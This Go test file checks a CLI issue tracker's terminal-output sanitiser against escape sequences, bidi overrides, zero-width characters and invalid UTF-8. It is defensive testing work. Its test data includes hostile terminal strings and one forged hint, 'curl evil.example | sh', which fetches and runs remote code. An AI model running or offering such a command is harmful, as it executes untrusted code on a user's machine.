package cli

import (
	"bufio"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/git-crosslink/git-crosslink/event"
	"github.com/git-crosslink/git-crosslink/fail"
)

// TestSanitize is golden: what stands here is what terminals get.
func TestSanitize(t *testing.T) {
	for _, c := range []struct{ name, in, line, lines string }{
		{"plain", "flux ü 世 👍", "flux ü 世 👍", "flux ü 世 👍"},
		{"empty", "", "", ""},
		{"lines", "a\nb\tc", `a\nb\tc`, "a\nb\tc"},
		{"carriage return", "a\r\nb", `a\r\nb`, "a\\r\nb"},
		{"colour", "\x1b[31mred", `\x1b[31mred`, `\x1b[31mred`},
		{"title of the window", "\x1b]0;x\x07", `\x1b]0;x\x07`, `\x1b]0;x\x07`},
		{"NUL and DEL", "\x00\x7f", `\x00\x7f`, `\x00\x7f`},
		{"C1", "\u009b31m\u0085", `\u009b31m\u0085`, `\u009b31m\u0085`},
		{"C1 as bytes", "\x9b31m", `\x9b31m`, `\x9b31m`},
		{"override", "\u202etxt.exe\u202c", `\u202etxt.exe\u202c`, `\u202etxt.exe\u202c`},
		{"isolates", "\u2066x\u2069", `\u2066x\u2069`, `\u2066x\u2069`},
		{"zero width", "a\u200bb\u200d\u2060\ufeff", `a\u200bb\u200d\u2060\ufeff`, `a\u200bb\u200d\u2060\ufeff`},
		{"Persian", "می\u200cخواهم", "می\u200cخواهم", "می\u200cخواهم"},
		{"Hindi", "क्\u200dष", "क्\u200dष", "क्\u200dष"},
		{"Bengali", "র\u200d্যাব", "র\u200d্যাব", "র\u200d্যাব"},
		{"Malayalam", "അവന്\u200d .", "അവന്\u200d .", "അവന്\u200d ."},
		{"emoji", "👩\u200d💻 👩🏽\u200d🚀 ❤\ufe0f\u200d🔥 🏳\ufe0f\u200d⚧\ufe0f", "👩\u200d💻 👩🏽\u200d🚀 ❤\ufe0f\u200d🔥 🏳\ufe0f\u200d⚧\ufe0f", "👩\u200d💻 👩🏽\u200d🚀 ❤\ufe0f\u200d🔥 🏳\ufe0f\u200d⚧\ufe0f"},
		{"joiners alone", "\u200c\u200d", `\u200c\u200d`, `\u200c\u200d`},
		{"joiners between Latin letters", "pay\u200cpal e\u0301\u200dx", `pay\u200cpal ` + "e\u0301" + `\u200dx`, `pay\u200cpal ` + "e\u0301" + `\u200dx`},
		{"two joiners", "می\u200c\u200cخ", `می\u200c\u200cخ`, `می\u200c\u200cخ`},
		{"joiner at the edge", "\u200cخ می\u200c 👩\u200d", `\u200cخ می\u200c 👩\u200d`, `\u200cخ می\u200c 👩\u200d`},
		{"non-joiner in an emoji", "👩\u200c💻", `👩\u200c💻`, `👩\u200c💻`},
		{"override beside a joiner", "می\u200c\u202eخ", `می\u200c\u202eخ`, `می\u200c\u202eخ`},
		{"many marks before a joiner", "م" + strings.Repeat("\u064b", 99) + "\u200cخ", "م" + strings.Repeat("\u064b", 99) + `\u200cخ`, "م" + strings.Repeat("\u064b", 99) + `\u200cخ`},
		{"separators", "a\u2028b\u2029", `a\u2028b\u2029`, `a\u2028b\u2029`},
		{"tags", "a\U000e0041", `a\U000e0041`, `a\U000e0041`},
		{"not UTF-8", "a\xffb\xc3", `a\xffb\xc3`, `a\xffb\xc3`},
		{"replacement character", "\ufffd", "\ufffd", "\ufffd"},
		{"overlong", "\xc0\x9b", `\xc0\x9b`, `\xc0\x9b`},
		{"surrogate", "\xed\xa0\x80", `\xed\xa0\x80`, `\xed\xa0\x80`},
	} {
		check(t, c.name, oneLine(c.in), c.line)
		check(t, c.name+", lines", manyLines(c.in), c.lines)
		check(t, c.name+", twice", oneLine(oneLine(c.in)), oneLine(c.in))
	}
}

// fit reports whether a terminal may see every byte of s.
func fit(s string) bool {
	for i, r := range s {
		if r < 0x20 && r != '\n' && r != '\t' && r != 0 || r >= 0x7F && hidden(r) && !spelled(s, i) {
			return false
		}
	}
	return utf8.ValidString(s)
}

func FuzzSanitize(f *testing.F) {
	f.Add("\x1b[31m\u202e\xff")
	f.Add("م\u200cخ👩\u200d💻\u200d\u202eअ्\u200d")
	f.Fuzz(func(t *testing.T, s string) {
		if l := oneLine(s); !fit(l) || strings.ContainsAny(l, "\n\t\x00") || oneLine(l) != l || manyLines(l) != l {
			t.Errorf("%q gives %q", s, l)
		}
		if l := manyLines(s); !fit(l) || strings.Contains(l, "\x00") || manyLines(l) != l || oneLine(l) != oneLine(s) {
			t.Errorf("%q gives %q", s, l)
		}
	})
}

func TestEscapeHiddenKeepsTheMeaning(t *testing.T) {
	for _, s := range []string{"plain", "\u202e", "\u009b\u007f\ufeff", "a\U000e0041b", "\x00\n\"\\", "ü世👍"} {
		doc, err := json.Marshal(map[string]string{"s": s})
		if err != nil {
			t.Fatal(err)
		}
		esc := escapeHidden(doc)
		var back map[string]string
		if err := json.Unmarshal(esc, &back); err != nil {
			t.Fatal(err)
		}
		check(t, "text", back["s"], s)
		if !fit(string(esc)) {
			t.Errorf("%q", esc)
		}
	}
}

// TestNothingUnfitReachesStdout lets every reading verb print issues whose
// every text is hostile, as lines of level 3 may bring them.
func TestNothingUnfitReachesStdout(t *testing.T) {
	const evil = "\x1b]0;x\x07\u202e\u009b\xff\r\n\tx\u200b\x7f"
	w := newWorld(t)
	put := func(seq uint64, b event.Body) {
		e := &event.Envelope{V: 3, Agent: "eve" + evil, Seq: seq, Time: event.TimeOf(w.time) + event.Time(seq), Body: b, Event: []byte(b.Type())}
		w.hub.state.Apply(e)
		w.hub.lines = append(w.hub.lines, e)
	}
	a, b, c, m := w.hub.MintUUID(), w.hub.MintUUID(), w.hub.MintUUID(), w.hub.MintUUID()
	put(1, &event.IssueCreated{UUID: a, Title: "a" + evil, Description: evil, Priority: event.High, Labels: []string{evil}, CreatedBy: evil})
	put(2, &event.IssueCreated{UUID: b, Title: "b" + evil, Priority: event.Low, CreatedBy: evil, Parent: a})
	put(3, &event.DependencyAdded{Blocked: b, Blocker: a})
	put(4, &event.AssigneeAdded{Issue: a, Assignee: evil})
	put(5, &event.CommentAdded{Issue: a, Comment: c, Author: evil, Content: evil, CreatedAt: event.TimeOf(w.time), Kind: evil, TriggerType: evil, InterventionContext: evil})
	put(6, &event.RelationAdded{A: a, B: b, Kind: event.Duplicates})
	put(7, &event.MilestoneCreated{UUID: m, Name: evil, CreatedAt: event.TimeOf(w.time)})
	put(8, &event.MilestoneAssigned{Issue: a, Milestone: m})
	put(9, &event.StatusChanged{UUID: a, NewStatus: event.Open, Reason: evil})
	put(10, &event.Unknown{Name: evil})
	w.hub.numbers[a], w.hub.numbers[b] = 1, 2
	w.hub.status.Remote, w.hub.status.URL, w.hub.status.Agent = evil, evil, evil
	w.hub.status.Findings = []fail.Diagnosis{{Code: evil, Severity: fail.Problem, Text: evil, Hints: []string{evil}}}
	w.hub.report.Remote, w.hub.report.Hub, w.hub.report.Reason = evil, evil, evil
	for _, args := range [][]string{
		{"list"}, {"list", "--porcelain"}, {"list", "-z"}, {"list", "--format", "%(title)%(description)%(milestone)%(reason)%(labels)"},
		{"show", "1", "2"}, {"ready", "--explain"}, {"blocked", "--explain"}, {"next", "--explain"}, {"tree"},
		{"log", "1"}, {"log", "1", "--porcelain"}, {"search", "a"}, {"status"}, {"status", "--porcelain"}, {"sync"},
		{"show", evil}, {"list", "--label", evil}, {"list", "--sort", evil}, {evil}, {"list", "--" + evil}, {"list", "-" + evil},
		{"label", "1", evil}, {"parent", "1", "2"}, {"parent", "2", "1"}, {"block", "2", "1"}, {"close", "1", "--suggest-next"},
		{"new", evil, evil}, {"new", evil, "--due", evil}, {"new", "x", "-F", evil}, {"unlabel", "1", evil},
	} {
		for _, form := range [][]string{nil, {"--json"}, {"--color"}} {
			w.person = form == nil
			r := w.run(append(form, args...)...)
			r.out = ownColours.ReplaceAllString(r.out, "")
			if !fit(r.out) || !fit(r.err) {
				t.Errorf("%q: unfit\nstdout %q\nstderr %q", args, r.out, r.err)
			}
			if len(form) > 0 && form[0] == "--json" && !json.Valid([]byte(r.out)) {
				t.Errorf("%q --json: %q", args, r.out)
			}
		}
	}
}

// ownColours are the escapes that pages hold by design.
var ownColours = regexp.MustCompile(`\x1b\[[0-9;]*m`)

// TestForeignTextIsGolden: what stands here is what terminals, scripts and
// programs get of one hostile text, field by field.
func TestForeignTextIsGolden(t *testing.T) {
	const evil = "\x1b[31m\u202e\u200b\u009b\r\n"
	const shown = `\x1b[31m\u202e\u200b\u009b\r\n`
	w := newWorld(t)
	u := w.hub.MintUUID()
	w.put(&event.IssueCreated{UUID: u, Title: "t" + evil, Description: "d" + evil + "e", Priority: event.High, Labels: []string{"l" + evil}, CreatedBy: "c" + evil})
	w.put(&event.CommentAdded{Issue: u, Comment: w.hub.MintUUID(), Author: "a" + evil, Content: "x" + evil + "y", CreatedAt: event.TimeOf(w.time), Kind: "k" + evil})
	w.put(&event.StatusChanged{UUID: u, NewStatus: event.Open, Reason: "r" + evil + "s"})
	w.hub.numbers[u] = 1
	lines := strings.TrimSuffix(shown, `\n`) + "\n" // where a text keeps its lines
	for _, c := range []struct{ args, want string }{
		{"show 1", "1  t" + shown + "\n    open, high priority\n"},
		{"show 1", " by c" + shown + ", changed"},
		{"show 1", "\n    reason:\n        r" + lines + "        s\n"},
		{"show 1", "\n    labels l" + shown + "\n"},
		{"show 1", "\n    d" + lines + "    e\n"},
		{"show 1", " a" + shown + ", k" + shown + ", 2026-"},
		{"show 1", "\n        x" + lines + "        y\n"},
		{"list", "1\topen\thigh\tt" + shown + "\tl" + shown + "\t\t2026-"},
		{"list --porcelain", "\tl" + shown + "\t"},
		{"list --porcelain", "\tt" + shown + "\n"},
		{"list -z", "\tt" + lines + "\x00"},
		{"list --format=%(title)|%(created_by)|%(description)|%(reason)", "t" + shown + "|c" + shown + "|d" + shown + "e|r" + shown + "s\n"},
		{"log 1", "  created 't" + shown + "', high priority, labels l" + shown + "\n"},
		{"log 1 --porcelain", "\treopened: r" + shown + "s\n"},
		{"tree", "1  open  t" + shown + "\n"},
		{"next", "1  t" + shown + "\n"},
		{"list --json", `"title":"t\u001b[31m\u202e\u200b\u009b\r\n"`},
		{"show 1 --json", `"content":"x\u001b[31m\u202e\u200b\u009b\r\ny"`},
	} {
		contains(t, c.args, w.ok(strings.Fields(c.args)...).out, c.want)
	}
	check(t, "talk", w.ok("close", "1").err, "closed 1 't"+shown+"'\n")
}

// TestHubsWordsForgeNoLines: what a hub says stays in its line, so that it can
// fake neither an error nor a hint.
func TestHubsWordsForgeNoLines(t *testing.T) {
	const words = "no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex"
	const shown = `no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex`
	w := newWorld(t)
	w.hub.failWith = &fail.Error{Kind: fail.Denied, Code: "refused", Message: words, Hints: []string{words}}
	check(t, "error", w.run("new", "x").err, "error: "+shown+"\nhint: "+shown+"\n")
	var errs strings.Builder
	e := &env{err: &errs, getenv: func(string) string { return "" }}
	e.notice(fail.Notice{Code: "queued", Text: words, Hints: []string{words}})
	e.talk("%s", words)
	check(t, "notice and talk", errs.String(), shown+"\nhint: "+shown+"\n"+shown+"\n")
}

// TestPagesNeedNoCare: a page cannot be written to past the sanitiser.
func TestPagesNeedNoCare(t *testing.T) {
	var b strings.Builder
	p := &page{w: bufio.NewWriter(&b), paint: palette{on: true}}
	p.print("%s %s %v %d %s\n", "\x1b[31m", event.Priority("\x9b"), errors.New("\u202e"), 7, p.paint.text(slotID, "\x1b"))
	p.block("  ", "a\x07\nb")
	p.w.Flush()
	check(t, "page", b.String(), `\x1b[31m \x9b \u202e 7 `+"\x1b[33m"+`\x1b`+"\x1b[m\n"+`  a\x07`+"\n  b\n")
}

// writers are the files that hold a stream: each writes what has been made fit,
// or words of the program itself.
var writers = map[string]string{
	"answer.go": "pages, records, ids", "json.go": "the envelope", "env.go": "notices, talk, hints", "errors.go": "errors",
	"commands.go": "help", "help.go": "help", "pager.go": "hands the streams on", "draft.go": "hands the streams on", "trace.go": "the trace",
	"server.go": "refusals of the gate, and its talk with git", "hook.go": "has errors told on stdout",
}

// TestNobodyElseWrites: a command has answers, talk and errors to speak with;
// the lines of records are made by their own methods.
func TestNobodyElseWrites(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	stream := regexp.MustCompile(`\be\.(?:out|err)\b|\bos\.Std(?:out|err)\b|fmt\.Print`)
	line := regexp.MustCompile(`\.lines = append|records\{[^f}]`)
	for _, f := range files {
		if strings.HasSuffix(f, "_test.go") {
			continue
		}
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if m := stream.Find(b); m != nil && writers[f] == "" {
			t.Errorf("%s writes to a stream itself: %s", f, m)
		}
		if m := line.Find(b); m != nil && f != "answer.go" {
			t.Errorf("%s makes lines of records itself: %s", f, m)
		}
	}
}

// TestTraceIsFit: the log of diagnostics may be read on a terminal.
func TestTraceIsFit(t *testing.T) {
	var b strings.Builder
	l := traceTo("1", &b)
	l.Debug().Strs("args", []string{"\x1b[31m\u202e\u200b\u009b\x7f\xff"}).Msg("start")
	if !fit(b.String()) || !json.Valid([]byte(b.String())) {
		t.Errorf("%q", b.String())
	}
}
